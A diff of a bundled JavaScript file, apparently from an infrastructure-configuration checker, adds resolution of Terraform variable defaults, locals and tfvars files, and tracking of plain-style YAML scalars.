+        return { kind: 'tuple', items: v.map((i) => fromJson(i, depth + 1)), span: NO_SPAN, text };
+    return {
+        kind: 'object',
+        entries: Object.entries(v).map(([key, value]) => ({
+            key,
+            keySpan: NO_SPAN,
+            value: fromJson(value, depth + 1),
+        })),
+        span: NO_SPAN,
+        text,
+    };
+}
+const RESOLVERS = new WeakMap();
+/** The values a resolver made from a variable's default, with the variable's name. */
+const INPUTS = new WeakMap();
+/**
+ * The name of the variable whose default a resolved value is (directly, through locals, or as an
+ * item of a list default); undefined for a literal written in place or a local's own value.
+ */
+function inputOf(value) {
+    return INPUTS.get(value);
+}
+/**
+ * A resolver for the files (one per parse, shared by every rule): `resolve(file, value)` is the
+ * value with references to the module's variables (their defaults) and locals replaced, keeping the
+ * span of the reference (a finding stays where the value is used) and saying in `text` where the
+ * value came from: `var.encrypted (default false)`.
+ */
+function valueResolver(files) {
+    let resolver = RESOLVERS.get(files);
+    if (!resolver) {
+        const scopes = moduleScopes(files);
+        resolver = (file, value) => resolve(scopes.get(file.module), value, 0);
+        RESOLVERS.set(files, resolver);
+    }
+    return resolver;
+}
+function moduleScopes(files) {
+    let scopes = SCOPES.get(files);
+    if (scopes)
+        return scopes;
+    scopes = new Map();
+    SCOPES.set(files, scopes);
+    const variableFiles = VARIABLE_FILES.get(files);
+    const called = calledModules(files);
+    for (const file of files) {
+        let scope = scopes.get(file.module);
+        if (!scope) {
+            scope = {
+                variables: new Map(),
+                locals: new Map(),
+                assigned: [...(variableFiles?.get(file.module) ?? [])],
+                called: called.has(file.module),
+            };
+            scopes.set(file.module, scope);
+        }
+        for (const block of file.body.blocks) {
+            if (block.type === 'variable' && block.labels.length === 1) {
+                const d = block.body.attributes.find((a) => a.name === 'default');
+                if (d)
+                    scope.variables.set(block.labels[0], d.value);
+            }
+            else if (block.type === 'locals') {
+                for (const a of block.body.attributes)
+                    scope.locals.set(a.name, a.value);
+            }
+        }
+    }
+    return scopes;
+}
+const SCOPES = new WeakMap();
+/** The folders that a `module` block of the files calls by a literal local path (`./x`, `../x`). */
+function calledModules(files) {
+    const called = new Set();
+    for (const file of files) {
+        for (const block of file.body.blocks) {
+            if (block.type !== 'module')
+                continue;
+            const source = block.body.attributes.find((a) => a.name === 'source')?.value;
+            if (source?.kind !== 'string' || !/^\.\.?(?:\/|$)/.test(source.value))
+                continue;
+            called.add(node_path__WEBPACK_IMPORTED_MODULE_0__.posix.normalize(node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(file.module, source.value)).replace(/(.)\/+$/, '$1'));
+        }
+    }
+    return called;
+}
+/**
+ * For the files: every value a whole reference (`var.x`, `local.y`, as {@link valueResolver} reads
+ * them) may take: a variable's default and what each of its folder's variable files sets (a file
+ * that could not be read adds an unknown value), through locals. A value that is no such reference,
+ * or a variable nothing gives a value, is itself the only candidate.
+ */
+function valueCandidates(files) {
+    const scopes = moduleScopes(files);
+    return (file, value) => candidatesOf(scopes.get(file.module), value, 0);
+}
+function candidatesOf(scope, value, hops) {
+    if (!scope || hops >= MAX_HOPS || (value.kind !== 'expression' && value.kind !== 'template'))
+        return [value];
+    const m = REFERENCE.exec(value.text.trim());
+    if (!m)
+        return [value];
+    const [, kind, name] = m;
+    if (kind === 'local') {
+        const target = scope.locals.get(name);
+        return target ? candidatesOf(scope, target, hops + 1) : [value];
+    }
+    const found = [];
+    const fallback = scope.variables.get(name);
+    if (fallback)
+        found.push(fallback);
+    for (const file of scope.assigned) {
+        // A file that could not be read may set anything: an unknown value, which no reference resolves.
+        const set = file.values
+            ? file.values.get(name)
+            : { kind: 'expression', span: value.span, text: file.path };
+        if (set)
+            found.push(set);
+    }
+    if (found.length === 0)
+        return [value];
+    return found.flatMap((v) => candidatesOf(scope, v, hops + 1));
+}
+function resolve(scope, value, hops) {
+    if (!scope || hops >= MAX_HOPS)
+        return value;
+    if (value.kind === 'tuple') {
+        const items = value.items.map((i) => resolve(scope, i, hops));
+        return items.every((i, n) => i === value.items[n]) ? value : { ...value, items };
+    }
+    const found = follow(scope, value, 0);
+    if (!found)
+        return value;
+    const inner = found.value.kind === 'tuple' ? resolve(scope, found.value, hops + 1) : found.value;
+    if (inner.kind === 'expression' || inner.kind === 'template') {
+        // A local that holds a reference (`aws_s3_bucket.logs.id`): known as text, still not a literal.
+        return { ...inner, span: value.span };
+    }
+    const origin = found.file !== undefined
+        ? `${found.file} ${inner.text}`
+        : found.variable !== undefined
+            ? `default ${inner.text}`
+            : inner.text;
+    const resolved = relocate(inner, value, `${value.text.trim()} (${origin})`);
+    if (found.variable !== undefined) {
+        INPUTS.set(resolved, found.variable);
+        if (resolved.kind === 'tuple')
+            for (const item of resolved.items)
+                INPUTS.set(item, found.variable);
+    }
+    return resolved;
+}
+/**
+ * The value a reference stands for, through chains of locals; undefined when it is not one.
+ * `variable`: the variable whose default it is, when it is one; `file`: the variable file that sets
+ * it, when one does (the last of the folder's that sets it, as Terraform loads them).
+ */
+function follow(scope, value, hops) {
+    if (value.kind !== 'expression' && value.kind !== 'template')
+        return undefined;
+    const m = REFERENCE.exec(value.text.trim());
+    if (!m || hops >= MAX_HOPS)
+        return undefined;
+    const [, kind, name] = m;
+    if (kind === 'var') {
+        // A file that could not be read (null) may set it or not: the default stays what is judged
+        // (valueCandidates counts the file as unknown).
+        const set = scope.called ? undefined : lastAssignment(scope, name);
+        if (set)
+            return { value: set.value, file: node_path__WEBPACK_IMPORTED_MODULE_0__.posix.basename(set.path) };
+    }
+    const target = (kind === 'var' ? scope.variables : scope.locals).get(name);
+    if (!target)
+        return undefined;
+    const further = follow(scope, target, hops + 1);
+    return further ?? (kind === 'var' ? { value: target, variable: name } : { value: target });
+}
+/**
+ * What the last of the folder's variable files that sets `name` gives it; null when a file that
+ * could not be read comes after (it may set it), undefined when none sets it.
+ */
+function lastAssignment(scope, name) {
+    for (let i = scope.assigned.length - 1; i >= 0; i--) {
+        const file = scope.assigned[i];
+        if (!file.values)
+            return null;
+        const set = file.values.get(name);
+        if (set)
+            return { value: set, path: file.path };
+    }
+    return undefined;
+}
+/** The resolved value at the reference's place: a list's items too, so each finding points there. */
+function relocate(v, at, text) {
+    if (v.kind === 'tuple') {
+        const ref = at.text.trim();
+        return { ...v, span: at.span, text, items: v.items.map((i) => relocate(i, at, `${ref} (${i.text})`)) };
+    }
+    return { ...v, span: at.span, text };
+}
+/** A body with every attribute value resolved, nested blocks included (for checks that read many). */
+function resolveBody(resolve, file, body) {
+    return {
+        attributes: body.attributes.map((a) => ({ ...a, value: resolve(file, a.value) })),
+        blocks: body.blocks.map((b) => ({ ...b, body: resolveBody(resolve, file, b.body) })),
+    };
+}
+
+
+/***/ }),
+
 /***/ 3787:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
@@ -57422,7 +59474,10 @@ function unescapeQuoted(raw) {
     });
 }
 
+// EXTERNAL MODULE: ./lib/core/parsers/terraform-values.js
+var terraform_values = __nccwpck_require__(3503);
 ;// CONCATENATED MODULE: ./lib/core/parsers/terraform.js
+
 
 
 /**
@@ -57452,12 +59507,52 @@ function terraformFiles(workspace) {
         // The parser and its WebAssembly runtime are a chunk of their own in the bundle, read only here.
         const { loadHclParser } = await Promise.all(/* import() */[__nccwpck_require__.e(551), __nccwpck_require__.e(666)]).then(__nccwpck_require__.bind(__nccwpck_require__, 3666));
         const parser = await loadHclParser();
-        return paths.flatMap((f) => {
+        const files = paths.flatMap((f) => {
             const file = readTerraformFile(workspace, parser, f);
             return file ? [file] : [];
         });
+        (0,terraform_values/* setVariableFiles */.oM)(files, readVariableFiles(workspace, parser));
+        return files;
     });
 }
+/**
+ * The variable files Terraform loads by itself in a folder it runs in (`terraform.tfvars`,
+ * `terraform.tfvars.json`, `*.auto.tfvars`, `*.auto.tfvars.json`), by folder, in Terraform's order
+ * (a later file overrides an earlier one). One that cannot be read or parsed is kept without values:
+ * it may set anything.
+ */
+function readVariableFiles(workspace, parser) {
+    const skip = workspace.matcher(NOT_CONFIGURATION);
+    const byModule = new Map();
+    for (const file of workspace.glob(VARIABLE_FILE_GLOBS)) {
+        if (skip(file))
+            continue;
+        const content = workspace.read(file);
+        let values;
+        if (content.kind === 'text') {
+            if (file.endsWith('.json'))
+                values = (0,terraform_values/* variablesOfJson */.P$)(content.text);
+            else {
+                const result = parseHcl(parser, content.text, content.lines);
+                if (result.ok)
+                    values = new Map(result.body.attributes.map((a) => [a.name, a.value]));
+            }
+        }
+        const module = external_node_path_.posix.dirname(file);
+        const list = byModule.get(module) ?? [];
+        list.push({ path: file, values });
+        byModule.set(module, list);
+    }
+    for (const list of byModule.values())
+        list.sort(terraform_values/* variableFileOrder */.ZQ);
+    return byModule;
+}
+const VARIABLE_FILE_GLOBS = [
+    '**/terraform.tfvars',
+    '**/terraform.tfvars.json',
+    '**/*.auto.tfvars',
+    '**/*.auto.tfvars.json',
+];
 /** One file's model (cached), or undefined when it is unreadable or does not parse. */
 function readTerraformFile(workspace, parser, file) {
     return workspace.memo('terraform', file, () => {
@@ -62093,7 +64188,11 @@ function parseYaml(text, filename, dialect) {
     const { values, events, source, lines } = parsed;
     const indexes = indexPositions(events, source);
     const documents = values.map((value, index) => {
-        const { spans: map, aliases } = indexes[index] ?? { spans: new Map(), aliases: new Map() };
+        const { spans: map, aliases, plain, } = indexes[index] ?? {
+            spans: new Map(),
+            aliases: new Map(),
+            plain: new Map(),
+        };
         const toSpan = (p) => {
             const raw = map.get(p);
             if (!raw)
@@ -62136,6 +64235,13 @@ function parseYaml(text, filename, dialect) {
                 const span = toSpan(found.pointer);
                 const alias = toSpan(found.alias);
                 return span && alias ? { pointer: found.pointer, span, alias, anchor: found.anchor } : undefined;
+            },
+            plainScalar(p) {
+                const own = plain.get(p);
+                if (own !== undefined || aliases.size === 0)
+                    return own;
+                const found = resolveAlias(p, map, aliases);
+                return found ? plain.get(found.pointer) : undefined;
             },
         };
     });
@@ -62417,6 +64523,8 @@ function resolveAlias(pointer, spans, aliases) {
     }
     return via && { pointer: current, ...via };
 }
+/** js-yaml's SCALAR_STYLE.PLAIN (a type-only import, like EVENT_ID). */
+const PLAIN_STYLE = 1;
 /**
  * Walks the flat event stream once and records, per document, JSON pointer -> [start, end, keyStart]
  * as source offsets. Aliases are recorded at the alias itself (never expanded).
@@ -62426,6 +64534,7 @@ function indexPositions(events, text) {
     const docs = [];
     let map = new Map();
     let aliases = new Map();
+    let plain = new Map();
     // Anchor name -> pointer of the node that defines it (the latest definition wins, as in YAML).
     let anchors = new Map();
     const stack = [];
@@ -62462,7 +64571,8 @@ function indexPositions(events, text) {
                 map = new Map();
                 aliases = new Map();
                 anchors = new Map();
-                docs.push({ spans: map, aliases });
+                plain = new Map();
+                docs.push({ spans: map, aliases, plain });
                 break;
             case EVENT_ID.MAPPING:
             case EVENT_ID.SEQUENCE: {
@@ -62505,8 +64615,10 @@ function indexPositions(events, text) {
                 if (slot.p.includes('\u0000'))
                     break;
                 map.set(slot.p, [start, end, slot.key]);
-                if (ev.type === EVENT_ID.SCALAR)
+                if (ev.type === EVENT_ID.SCALAR) {
                     anchorOf(ev, slot.p);
+                    plain.set(slot.p, ev.style === PLAIN_STYLE && ev.tagStart < 0);
+                }
                 else {
                     const anchor = text.slice(ev.anchorStart, ev.anchorEnd);
                     const target = anchors.get(anchor);
